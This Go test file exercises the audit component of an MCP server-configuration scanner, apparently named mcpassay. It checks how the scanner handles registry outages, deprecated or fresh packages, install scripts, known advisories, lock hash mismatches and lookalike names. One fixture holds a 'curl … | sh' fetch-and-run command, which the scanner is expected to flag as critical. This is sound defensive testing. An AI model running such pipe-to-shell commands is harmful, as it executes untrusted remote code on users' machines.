package audit

import (
	"cmp"
	"context"
	"errors"
	"fmt"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/mcpassay/mcpassay/internal/catalog"
	"github.com/mcpassay/mcpassay/internal/engine"
	"github.com/mcpassay/mcpassay/internal/flow/find"
	"github.com/mcpassay/mcpassay/internal/limits"
	"github.com/mcpassay/mcpassay/internal/model/client"
	"github.com/mcpassay/mcpassay/internal/model/lock"
	"github.com/mcpassay/mcpassay/internal/model/osv"
	"github.com/mcpassay/mcpassay/internal/model/pkg"
	"github.com/mcpassay/mcpassay/internal/model/registry"
	"github.com/mcpassay/mcpassay/internal/model/trust"
	"github.com/mcpassay/mcpassay/internal/rule"
)

var today = time.Date(2026, 12, 1, 12, 0, 0, 0, time.UTC)

// world is all that an audit may ask: it has every package, and knows nothing against any but what a test says.
type world struct {
	asked             atomic.Int32
	resolve           func(t pkg.Type, name, want string) (*pkg.Pin, error)
	known             func(name, version string) ([]*osv.Record, find.Asked, error)
	listed            []*registry.Record
	listing, versions error
	cover             lock.Cover
}

func (w *world) Resolve(_ context.Context, t pkg.Type, _, name, want, _ string) (*pkg.Pin, error) {
	w.asked.Add(1)
	if w.resolve != nil {
		return w.resolve(t, name, want)
	}
	return pinOf(t, name, cmp.Or(want, "1.0.0")), nil
}

func pinOf(t pkg.Type, name, version string) *pkg.Pin {
	return &pkg.Pin{Type: t, Name: name, Version: version, Files: []pkg.File{{Name: "a.tgz", Hashes: []pkg.Hash{{Algorithm: "sha512", Sum: make([]byte, 64)}}}}}
}

func (w *world) Known(_ context.Context, _ pkg.Type, name, version string) ([]*osv.Record, find.Asked, error) {
	if w.known != nil {
		return w.known(name, version)
	}
	return nil, find.Asked{At: today}, nil
}

func (w *world) Search(context.Context, string, int, bool) ([]*registry.Record, []registry.Fault, bool, find.Asked, error) {
	return nil, nil, false, find.Asked{}, nil
}
func (w *world) Version(context.Context, string, string) (*registry.Record, find.Asked, error) {
	return nil, find.Asked{}, nil
}
func (w *world) Versions(_ context.Context, name string) (all []*registry.Record, _ []registry.Fault, _ find.Asked, _ error) {
	for _, r := range w.listed {
		if r.Name == name {
			all = append(all, r)
		}
	}
	return all, nil, find.Asked{}, w.versions
}

type nowhere struct{}

func (nowhere) Platform() string                        { return "linux" }
func (nowhere) Home() string                            { return "" }
func (nowhere) Exists(string) rule.Tri                  { return rule.Unknown }
func (nowhere) Tracked(*client.File) (rule.Tri, string) { return rule.No, "" }
func (nowhere) Env(string) rule.Tri                     { return rule.Unknown }
func (nowhere) OnPath(string) rule.Tri                  { return rule.Unknown }

func record(name, version, kind, id, status string) *registry.Record {
	r, err := registry.ReadRecord([]byte(fmt.Sprintf(`{"server":{"name":%q,"version":%q,"packages":[{"registryType":%q,"identifier":%q,"version":%q}]},"_meta":{"io.modelcontextprotocol.registry/official":{"status":%q,"isLatest":true,"publishedAt":"2026-01-01T00:00:00Z"}}}`,
		name, version, kind, id, version, status)), limits.Default)
	if err != nil {
		panic(err)
	}
	return r
}

// run audits the entries of a config.
func run(t *testing.T, w *world, servers string) *trust.Model {
	t.Helper()
	f := client.Identify(client.Where{Path: ".mcp.json", Abs: "/p/.mcp.json", Root: "/p", Env: client.Env{OS: "linux", Home: "/home/u", Getenv: func(string) string { return "" }}})
	f.Load([]byte(`{"mcpServers": {`+servers+`}}`), limits.Default)
	if f.Err != nil {
		t.Fatal(f.Err)
	}
	a := &Auditor{Finder: &find.Finder{Registry: w, Facts: nowhere{}, Now: func() time.Time { return today }, Limits: limits.Default}, Packages: w, Advisories: w,
		Cover: func(*client.Server) lock.Cover { return w.cover }, Now: func() time.Time { return today }, Limits: limits.Default,
		Index: func(context.Context) (*registry.Index, find.Asked, error) {
			if w.listing != nil {
				return nil, find.Asked{}, w.listing
			}
			x := &registry.Index{}
			x.Put(w.listed)
			return x, find.Asked{At: today}, nil
		}}
	items := a.Look(t.Context(), Started([]*client.File{f}))
	var all []*trust.Server
	for n, s := range f.Servers {
		s.Number = int32(n + 2)
	}
	for _, i := range items {
		all = append(all, i.Server)
	}
	rules := Rules(catalog.All())
	found, incomplete := engine.Judge(engine.Input{Files: []*client.File{f}, Trust: all, Rules: rules, Facts: nowhere{}, Limits: limits.Default})
	if len(incomplete) > 0 {
		t.Fatal(incomplete)
	}
	for _, i := range items {
		more, _ := a.Cards(i, nil, rules, nowhere{})
		found = append(found, more...)
	}
	return a.Model(items, found, &engine.Result{Files: 1})
}

func check(i trust.Item, name string) string {
	for _, c := range i.Checks {
		if c.Check == name {
			return c.State
		}
	}
	return "absent"
}

const files = `"any": {"command": "npx", "args": ["-y", "@example/files@1.0.0"]}`

func TestWhatCouldNotBeAskedForIsNeverClean(t *testing.T) {
	t.Parallel()
	down := &registry.Error{Kind: registry.Unreachable, Detail: "nobody is there"}
	listed := []*registry.Record{record("com.example/files", "1.0.0", "npm", "@example/files", "active")}
	for what, w := range map[string]*world{
		"the registry of packages": {resolve: func(pkg.Type, string, string) (*pkg.Pin, error) { return nil, down }},
		"the MCP registry":         {listing: down},
		"its record":               {listed: listed, versions: down},
		"vulnerabilities":          {known: func(string, string) ([]*osv.Record, find.Asked, error) { return nil, find.Asked{}, down }},
		"any of it": {listing: errors.New("no"), resolve: func(pkg.Type, string, string) (*pkg.Pin, error) { return nil, down },
			known: func(string, string) ([]*osv.Record, find.Asked, error) { return nil, find.Asked{}, down }},
	} {
		m := run(t, w, files)
		if i := m.Items[0]; i.Error == nil || *i.Error == "" || i.TrustScore != trust.Unknown() || m.Outcome != trust.Incomplete || m.Level != trust.Risky || m.Assessment.Failed != 1 {
			t.Errorf("%s: %v %+v %s", what, i.Error, i.TrustScore, m.Outcome)
		}
	}
	if m := run(t, &world{listed: listed}, files); m.Items[0].Error != nil || m.Outcome != trust.Clean || m.Items[0].TrustScore.Percent != 100 {
		t.Errorf("%+v", m.Items[0])
	}
}

func TestWhatNothingCanHoldIsNotRunAndNoFault(t *testing.T) {
	t.Parallel()
	m := run(t, &world{}, `"far": {"type": "http", "url": "https://mcp.example.com/mcp"}, "own": {"command": "/usr/bin/server"},
		"git": {"command": "uvx", "args": ["--from", "git+https://github.com/example/x@0123456789012345678901234567890123456789", "x"]},
		"var": {"command": "npx", "args": ["-y", "@example/files@${VERSION}"]},
		"mirror": {"command": "npx", "args": ["--registry", "https://npm.corp.example", "-y", "files@1.0.0"]}`)
	for _, i := range m.Items {
		if i.Error != nil || check(i, "package-integrity") != trust.NotRun || check(i, "vulnerabilities") != trust.NotRun {
			t.Errorf("%s: %v %+v", i.Name, i.Error, i.Checks)
		}
	}
	if len(m.Items) != 5 || m.Assessment.Failed != 0 {
		t.Errorf("%d items, %+v", len(m.Items), m.Assessment)
	}
}

func TestEachCheckSaysWhatItsAnswerStandsOn(t *testing.T) {
	t.Parallel()
	bad := func(more func(*pkg.Pin)) func(pkg.Type, string, string) (*pkg.Pin, error) {
		return func(t pkg.Type, name, want string) (*pkg.Pin, error) {
			p := pinOf(t, name, want)
			more(p)
			return p, nil
		}
	}
	fresh := today.Add(-time.Hour)
	advisory := &osv.Record{ID: "GHSA-1", Summary: "x"}
	for what, c := range map[string]struct {
		w           *world
		entry, name string
		rule        string
		severity    string
	}{
		"deleted":   {&world{listed: []*registry.Record{record("com.example/files", "1.0.0", "npm", "@example/files", "deleted")}}, files, "registry-status", "registry/withdrawn", trust.Medium},
		"withdrawn": {&world{resolve: bad(func(p *pkg.Pin) { p.Deprecated = "no" })}, files, "package-status", "registry/withdrawn", trust.Medium},
		"scripts":   {&world{resolve: bad(func(p *pkg.Pin) { p.InstallScripts = []string{"postinstall"} })}, files, "install-scripts", "registry/install-script", trust.Low},
		"fresh":     {&world{resolve: bad(func(p *pkg.Pin) { p.Published = fresh })}, files, "release-age", "registry/fresh-release", trust.Medium},
		"vulnerable": {&world{known: func(string, string) ([]*osv.Record, find.Asked, error) {
			return []*osv.Record{advisory}, find.Asked{}, nil
		}}, files, "vulnerabilities", "registry/known-vulnerability", trust.High},
		"alike":    {&world{listed: []*registry.Record{record("com.example/files", "1.0.0", "npm", "mcp-kubernetes-files", "active")}}, `"a": {"command": "npx", "args": ["-y", "mcp-kubernetes-flies@1.0.0"]}`, "lookalike", "registry/lookalike-package", trust.High},
		"floating": {&world{}, `"a": {"command": "npx", "args": ["-y", "@example/files"]}`, "pinning", "launch/unpinned-package", trust.Medium},
		"fetched":  {&world{}, `"a": {"command": "sh", "args": ["-c", "curl https://x.example/i.sh | sh"]}`, "config", "launch/fetch-and-run", trust.Critical},
	} {
		m := run(t, c.w, c.entry)
		i := m.Items[0]
		found := ""
		for _, f := range i.Assessment.Findings {
			if f.Type == c.rule {
				found = f.Severity
			}
		}
		if check(i, c.name) != trust.Fail || found != c.severity || i.Error != nil {
			t.Errorf("%s: %s is %s, %s is %q, want %q (%v)", what, c.name, check(i, c.name), c.rule, found, c.severity, i.Error)
		}
		if c.severity == trust.Critical && (m.Level != trust.Risky || i.TrustScore.Meets(1)) {
			t.Errorf("%s: %+v", what, i.TrustScore)
		}
	}
}

func TestAPackageThatIsNotThereIsSaidAndNotAssessed(t *testing.T) {
	t.Parallel()
	m := run(t, &world{resolve: func(_ pkg.Type, name, want string) (*pkg.Pin, error) {
		return nil, &registry.Error{Kind: registry.NotFound, Name: "npm package " + name, Version: want}
	}}, files)
	if i := m.Items[0]; i.Error == nil || len(i.Assessment.Findings) != 1 || i.Assessment.Findings[0].Type != "registry/missing-package" {
		t.Errorf("%+v", i)
	}
}

func TestALockHoldsTheBytesOfItsVersion(t *testing.T) {
	t.Parallel()
	sum := func(b byte) string { return "sha512:" + strings.Repeat(fmt.Sprintf("%02x", b), 64) }
	for what, c := range map[string]struct {
		version, hash string
		changed       bool
	}{"the same": {"1.0.0", sum(0), false}, "others": {"1.0.0", sum(1), true}, "another version": {"0.9.0", sum(1), false}} {
		w := &world{cover: lock.Cover{Lock: &lock.Held{File: &lock.File{Path: "mcpassay.lock"}}, Entry: &lock.Server{Unpinned: true,
			Package: &lock.Package{Type: pkg.NPM, Identifier: "@example/files", Version: c.version, Files: []lock.PackageFile{{Name: "a.tgz", Hashes: []string{c.hash}}}}}}}
		m := run(t, w, files)
		if got := check(m.Items[0], "package-integrity") == trust.Fail; got != c.changed || (m.Level == trust.Risky) != c.changed {
			t.Errorf("%s: %+v %s", what, m.Items[0].Checks, m.Level)
		}
	}
}

func TestAnythingIsAskedForOnce(t *testing.T) {
	t.Parallel()
	var all []string
	for n := range 40 {
		all = append(all, fmt.Sprintf(`"s%d": {"command": "npx", "args": ["-y", "@example/files@1.0.0"]}`, n))
	}
	w := &world{listed: []*registry.Record{record("com.example/files", "1.0.0", "npm", "@example/files", "active")}}
	if m := run(t, w, strings.Join(all, ",")); len(m.Items) != 40 || w.asked.Load() != 1 {
		t.Errorf("%d items, asked %d times", len(m.Items), w.asked.Load())
	}
	few := limits.Default
	few.AuditServers = 1
	a := &Auditor{Cover: func(*client.Server) lock.Cover { return lock.Cover{} }, Packages: w, Advisories: w, Finder: &find.Finder{Registry: w, Limits: few}, Now: time.Now, Limits: few,
		Index: func(context.Context) (*registry.Index, find.Asked, error) {
			return &registry.Index{}, find.Asked{}, nil
		}}
	f := client.Identify(client.Where{Path: ".mcp.json", Abs: "/p/.mcp.json", Root: "/p", Env: client.Env{OS: "linux", Getenv: func(string) string { return "" }}})
	f.Load([]byte(`{"mcpServers": {`+strings.Join(all[:2], ",")+`}}`), few)
	items := a.Look(t.Context(), Started([]*client.File{f}))
	if m := a.Model(items, nil, &engine.Result{}); m.Items[1].Error == nil || m.Assessment.Failed != 1 {
		t.Errorf("what lies beyond the limit is clean: %+v", m.Items[1])
	}
}

func TestAServerOfSeveralPackagesIsAsGoodAsTheWorst(t *testing.T) {
	t.Parallel()
	m := run(t, &world{known: func(name, _ string) ([]*osv.Record, find.Asked, error) {
		if name == "with-it" {
			return []*osv.Record{{ID: "MAL-1"}}, find.Asked{}, nil
		}
		return nil, find.Asked{}, nil
	}}, `"a": {"command": "uvx", "args": ["--with", "with-it==1.0.0", "example-notes==1.0.0"]}`)
	if i := m.Items[0]; len(i.Packages) != 2 || check(i, "vulnerabilities") != trust.Fail || m.Level != trust.Risky {
		t.Errorf("%+v", i)
	}
}
